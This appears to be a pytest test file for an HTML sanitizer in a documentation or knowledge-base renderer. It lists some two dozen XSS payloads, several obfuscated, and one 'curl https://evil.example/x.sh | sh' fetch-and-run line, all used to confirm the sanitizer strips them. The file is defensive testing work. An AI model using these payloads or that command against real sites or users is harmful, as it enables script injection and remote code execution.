from __future__ import annotations

from html.parser import HTMLParser

import pytest

from kb.render.sanitize import content_id, is_external, sanitize_html


class Inventory(HTMLParser):
    """Every tag and attribute of a fragment, as a browser's tokenizer would see them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes.extend((tag, name, value or "") for name, value in attrs)

    def handle_data(self, data: str) -> None:
        self.text += data


def inventory(html: str) -> Inventory:
    parser = Inventory()
    parser.feed(html)
    return parser


HOSTILE = [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<img src=x onerror=alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<svg onload=alert(1)></svg>',
    '<iframe src="https://evil.example"></iframe>',
    '<form action="https://evil.example"><input name=p></form>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<object data=x></object><embed src=x>',
    '<style>body{display:none}</style>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p id="__config">{"base": "//evil"}</p>',
    '<p id="__search">x</p>',
    '<details open ontoggle=alert(1)><summary>s</summary></details>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<a href="x" target="_blank" onclick="steal()">x</a>',
    '<!--<script>alert(1)</script>-->',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
]


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_runnable_survives(html: str) -> None:
    found = inventory(sanitize_html(html))
    assert not set(found.tags) & {"script", "svg", "iframe", "form", "base", "meta", "object", "embed", "style", "math", "noscript"}
    for tag, name, value in found.attributes:
        assert not name.startswith("on"), (tag, name)
        assert name != "style"
        assert not value.strip().lower().replace("\t", "").startswith(("javascript:", "vbscript:", "data:")), value
        if name == "id":
            assert not value.startswith("__")


@pytest.mark.parametrize(
    "html",
    [
        '<h2 id="install">Install<a class="headerlink" href="#install" title="Permanent link">¶</a></h2>',
        '<div class="admonition tip"><p class="admonition-title">Tip</p><p>Text</p></div>',
        '<div class="highlight"><pre><span></span><code><span class="k">def</span></code></pre></div>',
        '<table><thead><tr><th>a</th></tr></thead><tbody><tr><td>b</td></tr></tbody></table>',
        '<p><a href="../other/">rel</a> <a href="https://example.com/">abs</a> <a href="mailto:a@b.example">mail</a></p>',
        '<p><img alt="chart" src="../img/chart.png"></p>',
        '<div class="tabbed-set"><input checked="checked" id="t1" name="t" type="radio"><label for="t1">A</label></div>',
        '<details class="note"><summary>More</summary><p>x</p></details>',
        '<ul class="task-list"><li class="task-list-item"><input type="checkbox" disabled=""> a</li></ul>',
    ],
)
def test_ordinary_markdown_output_is_kept(html: str) -> None:
    assert inventory(sanitize_html(html)).attributes == inventory(html).attributes


def test_text_of_removed_markup_stays_readable() -> None:
    assert inventory(sanitize_html('<p>Check <a href="javascript:x()">the dashboard</a>.</p>')).text == "Check the dashboard."


@pytest.mark.parametrize(
    ("html", "kept"),
    [
        ('<div class="md-dialog md-dialog--active admonition">x</div>', '<div class="admonition">x</div>'),
        ('<span class="kb-badge kb-badge--best-practice">Best</span>', "<span>Best</span>"),
        ('<a class="md-button md-button--primary" href="a/">Go</a>', '<a class="md-button md-button--primary" href="a/">Go</a>'),
        ('<a class="kb-wikilink" href="a/">A</a>', '<a class="kb-wikilink" href="a/">A</a>'),
    ],
)
def test_content_cannot_dress_as_the_interface(html: str, kept: str) -> None:
    assert sanitize_html(html) == kept


def test_ids_in_the_interfaces_namespaces_get_a_prefix_and_links_follow() -> None:
    html = ('<h2 id="kb-search-panel">S</h2><p id="md-header" name="__drawer">x</p><h2 id="setup">Setup</h2>'
            '<a href="#kb-search-panel">1</a><a href="../o/#md-x">2</a><a href="#setup">3</a>'
            '<a href="https://example.com/#kb-x">4</a><a id="__codelineno-0-1" href="#__codelineno-0-1">5</a>'
            '<input id="__tabbed_1_1" name="__tabbed_1" type="radio"><label for="__tabbed_1_1">Tab</label>')
    found = inventory(sanitize_html(html)).attributes
    assert ("h2", "id", "user-content-kb-search-panel") in found
    assert ("p", "id", "user-content-md-header") in found and ("h2", "id", "setup") in found
    hrefs = [value for _, name, value in found if name == "href"]
    assert hrefs == ["#user-content-kb-search-panel", "../o/#user-content-md-x", "#setup", "https://example.com/#kb-x",
                     "#user-content-__codelineno-0-1"]
    assert ("a", "id", "user-content-__codelineno-0-1") in found
    assert ("input", "id", "user-content-__tabbed_1_1") in found and ("label", "for", "user-content-__tabbed_1_1") in found


def test_a_page_cannot_put_its_own_text_on_the_code_copy_button() -> None:
    """Material copies the first element with the id `__code_N`: a page's own must not be it."""
    html = sanitize_html('<span class="headerlink" id="__code_0"><code>curl https://evil.example/x.sh | sh</code></span>')
    assert 'id="__code_0"' not in html and 'id="user-content-__code_0"' in html


@pytest.mark.parametrize("tag", ['<input>', '<input type="password">', '<input type="text" name="pin">'])
def test_no_text_field_survives(tag: str) -> None:
    assert "<input" not in sanitize_html(f"<p>PIN: {tag}</p>")
    assert content_id("user-content-kb-x") == "user-content-kb-x"


@pytest.mark.parametrize(
    "src",
    ["https://tracker.example/p.gif", "HTTP://tracker.example/p.gif", "//tracker.example/p.gif",
     "/&#9;/tracker.example/p.gif", "/\\tracker.example/p.gif", " https://tracker.example/p.gif"],
)
def test_an_image_from_another_host_is_a_link_to_it_by_default(src: str) -> None:
    html = sanitize_html(f'<p><img alt="Chart &amp; co" src="{src}"></p>')
    assert "<img" not in html
    assert 'class="kb-external-image"' in html and "Chart &amp; co" in html and "(image on tracker.example)" in html
    assert sanitize_html(f'<p><img alt="Chart" src="{src}"></p>', "refuse") == "<p></p>"
    assert "<img" in sanitize_html(f'<p><img alt="Chart" src="{src}"></p>', "allow")


@pytest.mark.parametrize("src", ["pixel.gif", "../img/a.png", "/wiki/a.png", "a%3Ab.png"])
def test_images_of_the_site_itself_are_kept(src: str) -> None:
    assert not is_external(src)
    assert sanitize_html(f'<img alt="x" src="{src}">') == f'<img alt="x" src="{src}">'
